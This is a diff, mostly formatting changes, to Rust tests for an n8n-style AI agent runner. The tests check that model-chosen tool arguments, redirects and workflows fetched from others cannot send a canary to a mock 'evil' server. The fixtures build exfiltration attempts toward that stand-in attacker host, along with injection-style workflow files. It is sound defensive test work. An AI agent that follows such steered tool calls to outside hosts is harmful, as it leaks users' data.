@@ -5,10 +5,17 @@ use super::{CANARY, Server, acting, agent, held, last_results, told_by_child};
 use serde_json::{Value as Json, json as js};
 
 /// What the model is told after a call of one more tool of the agent.
-async fn told_by_tool(web: &Server, evil: &Server, options: Json, tool: Json, arguments: Json) -> String {
+async fn told_by_tool(
+    web: &Server,
+    evil: &Server,
+    options: Json,
+    tool: Json,
+    arguments: Json,
+) -> String {
     let mut document = agent(web, options, js!({}));
     let name = tool["name"].as_str().unwrap().to_owned();
-    document["connections"][&name] = js!({ "ai_tool": [[{ "node": "Agent", "type": "ai_tool", "index": 0 }]] });
+    document["connections"][&name] =
+        js!({ "ai_tool": [[{ "node": "Agent", "type": "ai_tool", "index": 0 }]] });
     document["nodes"].as_array_mut().unwrap().push(tool);
     let mock = acting(0, move |_| Some((name.clone(), arguments.clone())));
     run_document(held(&mock, evil), &document, js!([{}])).await;
@@ -39,22 +46,38 @@ async fn issue_14_12_every_address_of_a_list_is_a_place() {
     let evil = Server::start(Vec::new());
     let web = Server::start(vec!["Sunny.".into()]);
     let list = format!("0,{}", evil.at(&format!("/?d={CANARY}")));
-    let seen = n8n("Look", "googleGeminiTool", 1.0, looks_at(&format!("={}", web.at("/{{ $fromAI('path') }}"))));
+    let seen = n8n(
+        "Look",
+        "googleGeminiTool",
+        1.0,
+        looks_at(&format!("={}", web.at("/{{ $fromAI('path') }}"))),
+    );
     for list in [list.clone(), list.replace(',', " , "), format!(",{list},")] {
         let told = told_by_tool(&web, &evil, js!({}), seen.clone(), js!({ "path": list })).await;
-        assert!(told.contains("AGENT_OUTWARD") && evil.heard().is_empty(), "{list}: {told} {}", evil.heard());
+        assert!(
+            told.contains("AGENT_OUTWARD") && evil.heard().is_empty(),
+            "{list}: {told} {}",
+            evil.heard()
+        );
     }
     // The same in a workflow that the model calls.
-    let out = n8n("Out", "googleGemini", 1.0, looks_at(&format!("={}", web.at("/{{ $json.input }}"))));
+    let out =
+        n8n("Out", "googleGemini", 1.0, looks_at(&format!("={}", web.at("/{{ $json.input }}"))));
     let told = told_by_child(&web, &evil, js!({}), workflow(out.clone(), &[]), list.clone()).await;
-    assert!(told.contains("could choose where") && evil.heard().is_empty(), "{told} {}", evil.heard());
+    assert!(
+        told.contains("could choose where") && evil.heard().is_empty(),
+        "{told} {}",
+        evil.heard()
+    );
     // One address, or several of the author's host, need nobody.
     let told = told_by_tool(&web, &evil, js!({}), seen, js!({ "path": "look.png" })).await;
     assert!(web.heard().contains("GET /look.png"), "{told}");
     let fine = format!("one.png,{}", web.at("/two.png"));
     let told = told_by_child(&web, &evil, js!({}), workflow(out.clone(), &[]), fine).await;
     assert!(!told.contains("AGENT_OUTWARD") && !told.contains("could choose where"), "{told}");
-    let told = told_by_child(&web, &evil, js!({ "maySendAnywhere": "send" }), workflow(out, &[]), list).await;
+    let told =
+        told_by_child(&web, &evil, js!({ "maySendAnywhere": "send" }), workflow(out, &[]), list)
+            .await;
     assert!(!told.contains("could choose where"), "the author lets the tool: {told}");
 }
 
@@ -69,9 +92,13 @@ async fn issue_14_12_a_model_does_not_choose_the_workflow_that_runs() {
         all.as_object_mut().unwrap().extend(parameters.as_object().unwrap().clone());
         node("Run", "n8n-nodes-base.executeWorkflowTool", 1.2, all)
     };
-    let by_url = runs(js!({ "source": "url", "workflowUrl": format!("={}", web.at("/{{ $fromAI('path') }}")) }));
+    let by_url = runs(
+        js!({ "source": "url", "workflowUrl": format!("={}", web.at("/{{ $fromAI('path') }}")) }),
+    );
     let by_file = runs(js!({ "source": "localFile", "workflowPath": "={{ $fromAI('path') }}" }));
-    let by_folder = runs(js!({ "source": "localFile", "workflowPath": "=injection-{{ $fromAI('path') }}.json" }));
+    let by_folder = runs(
+        js!({ "source": "localFile", "workflowPath": "=injection-{{ $fromAI('path') }}.json" }),
+    );
     let by_text = runs(js!({ "source": "parameter", "workflowJson": "={{ $fromAI('path') }}" }));
     let old = |parameters: Json| {
         let mut all = js!({ "name": "Run", "description": "Runs." });
@@ -83,15 +110,27 @@ async fn issue_14_12_a_model_does_not_choose_the_workflow_that_runs() {
         (by_file, "injection-leaks.json".to_owned()),
         (by_folder, "leaks".to_owned()),
         (by_text, leaks.to_string()),
-        (old(js!({ "source": "url", "workflowUrl": "={{ $json.url || $fromAI('path') }}" })), web.at("/1")),
-        (old(js!({ "source": "localFile", "workflowPath": "={{ $fromAI('path') }}" })), "injection-leaks.json".to_owned()),
+        (
+            old(js!({ "source": "url", "workflowUrl": "={{ $json.url || $fromAI('path') }}" })),
+            web.at("/1"),
+        ),
+        (
+            old(js!({ "source": "localFile", "workflowPath": "={{ $fromAI('path') }}" })),
+            "injection-leaks.json".to_owned(),
+        ),
     ];
     for (tool, path) in chosen {
-        let argument = if tool["type"].as_str().unwrap().ends_with("toolWorkflow") { "input" } else { "path" };
+        let argument =
+            if tool["type"].as_str().unwrap().ends_with("toolWorkflow") { "input" } else { "path" };
         let told = told_by_tool(&web, &evil, js!({}), tool.clone(), js!({ argument: path })).await;
-        assert!(told.contains("AGENT_OUTWARD") && evil.heard().is_empty(), "{tool}: {told} {}", evil.heard());
+        assert!(
+            told.contains("AGENT_OUTWARD") && evil.heard().is_empty(),
+            "{tool}: {told} {}",
+            evil.heard()
+        );
     }
-    // A workflow of the author's choice whose text is somebody else's: what is fixed in it is not the author's.
+    // A workflow of the author's choice whose text is somebody else's: what is fixed in it is not
+    // the author's.
     let fixed = [
         runs(js!({ "source": "url", "workflowUrl": web.at("/1") })),
         runs(js!({ "source": "localFile", "workflowPath": "injection-leaks.json" })),
@@ -99,9 +138,15 @@ async fn issue_14_12_a_model_does_not_choose_the_workflow_that_runs() {
     ];
     for tool in &fixed {
         let told = told_by_tool(&web, &evil, js!({}), tool.clone(), js!({})).await;
-        assert!(told.contains("could choose where") && evil.heard().is_empty(), "{tool}: {told} {}", evil.heard());
+        assert!(
+            told.contains("could choose where") && evil.heard().is_empty(),
+            "{tool}: {told} {}",
+            evil.heard()
+        );
     }
-    let told = told_by_tool(&web, &evil, js!({ "maySendAnywhere": "Run" }), fixed[0].clone(), js!({})).await;
+    let told =
+        told_by_tool(&web, &evil, js!({ "maySendAnywhere": "Run" }), fixed[0].clone(), js!({}))
+            .await;
     assert!(evil.heard().contains("GET /?w="), "the author lets the tool: {told}");
 }
 
@@ -111,7 +156,10 @@ async fn issue_14_12_text_of_strangers_brings_no_models_and_tools_of_its_own() {
     let inner = js!({ "userMessage": "go", "options": { "maySendAnywhere": "http_request" } });
     let mut agents = workflow(
         node("Out", "ai-agent", 1.0, inner),
-        &[(openai("M"), "ai_languageModel", "Out"), (node("R", "http-request-tool", 1.0, js!({})), "ai_tool", "Out")],
+        &[
+            (openai("M"), "ai_languageModel", "Out"),
+            (node("R", "http-request-tool", 1.0, js!({})), "ai_tool", "Out"),
+        ],
     );
     agents["nodes"][0]["type"] = js!("n8n-nodes-base.executeWorkflowTrigger");
     let nested = child(node(
@@ -120,11 +168,26 @@ async fn issue_14_12_text_of_strangers_brings_no_models_and_tools_of_its_own() {
         1.2,
         js!({ "source": "parameter", "workflowJson": child(request(&evil.at("/nested"))).to_string(), "options": {} }),
     ));
-    let counts = child(node("Out", "n8n-nodes-base.code", 2.0, js!({ "jsCode": "return [{ json: { counted: 41 + 1 } }];" })));
-    let web = Server::start(vec!["Sunny.".into(), agents.to_string(), nested.to_string(), counts.to_string()]);
+    let counts = child(node(
+        "Out",
+        "n8n-nodes-base.code",
+        2.0,
+        js!({ "jsCode": "return [{ json: { counted: 41 + 1 } }];" }),
+    ));
+    let web = Server::start(vec![
+        "Sunny.".into(),
+        agents.to_string(),
+        nested.to_string(),
+        counts.to_string(),
+    ]);
     let runs = |at: usize| {
         let url = web.at(&format!("/{at}"));
-        node("Run", "n8n-nodes-base.executeWorkflowTool", 1.2, js!({ "toolDescription": "Runs.", "source": "url", "workflowUrl": url }))
+        node(
+            "Run",
+            "n8n-nodes-base.executeWorkflowTool",
+            1.2,
+            js!({ "toolDescription": "Runs.", "source": "url", "workflowUrl": url }),
+        )
     };
     for at in [1, 2] {
         let told = told_by_tool(&web, &evil, js!({}), runs(at), js!({})).await;
@@ -143,21 +206,47 @@ async fn issue_14_12_redirects_of_every_node_stay_at_the_host() {
     let file = js!({ "toolDescription": "Keeps.", "resource": "file", "operation": "upload", "inputType": "url", "fileUrl": to });
     let fixed = js!({ "toolDescription": "Runs.", "source": "url", "workflowUrl": web.at(&format!("/go?to={away}")), "options": {} });
     let tools = [
-        node("Go", "n8n-nodes-base.rssFeedReadTool", 1.2, js!({ "toolDescription": "Reads.", "url": to, "options": {} })),
+        node(
+            "Go",
+            "n8n-nodes-base.rssFeedReadTool",
+            1.2,
+            js!({ "toolDescription": "Reads.", "url": to, "options": {} }),
+        ),
         n8n("Go", "googleGeminiTool", 1.0, looks_at(&to)),
         n8n("Go", "googleGeminiTool", 1.0, file),
         node("Go", "n8n-nodes-base.executeWorkflowTool", 1.2, fixed),
-        node("Go", "n8n-nodes-base.httpRequestTool", 4.2, js!({ "toolDescription": "Goes.", "url": to, "options": {} })),
+        node(
+            "Go",
+            "n8n-nodes-base.httpRequestTool",
+            4.2,
+            js!({ "toolDescription": "Goes.", "url": to, "options": {} }),
+        ),
     ];
     for tool in &tools {
         let told = told_by_tool(&web, &evil, js!({}), tool.clone(), js!({ "to": away })).await;
-        assert!(told.contains("is not allowed") && evil.heard().is_empty(), "{tool}: {told} {}", evil.heard());
+        assert!(
+            told.contains("is not allowed") && evil.heard().is_empty(),
+            "{tool}: {told} {}",
+            evil.heard()
+        );
     }
     // In a called workflow as well, where the author wrote down the host.
-    let feed = node("Out", "n8n-nodes-base.rssFeedRead", 1.2, js!({ "url": format!("={}", web.at("/go?to={{ $json.input }}")) }));
+    let feed = node(
+        "Out",
+        "n8n-nodes-base.rssFeedRead",
+        1.2,
+        js!({ "url": format!("={}", web.at("/go?to={{ $json.input }}")) }),
+    );
     let told = told_by_child(&web, &evil, js!({}), workflow(feed, &[]), away.clone()).await;
     assert!(told.contains("is not allowed") && evil.heard().is_empty(), "{told} {}", evil.heard());
     // A tool that may send anywhere follows them.
-    let told = told_by_tool(&web, &evil, js!({ "maySendAnywhere": "Go" }), tools[0].clone(), js!({ "to": away })).await;
+    let told = told_by_tool(
+        &web,
+        &evil,
+        js!({ "maySendAnywhere": "Go" }),
+        tools[0].clone(),
+        js!({ "to": away }),
+    )
+    .await;
     assert!(evil.heard().contains("GET /?r="), "{told}");
 }
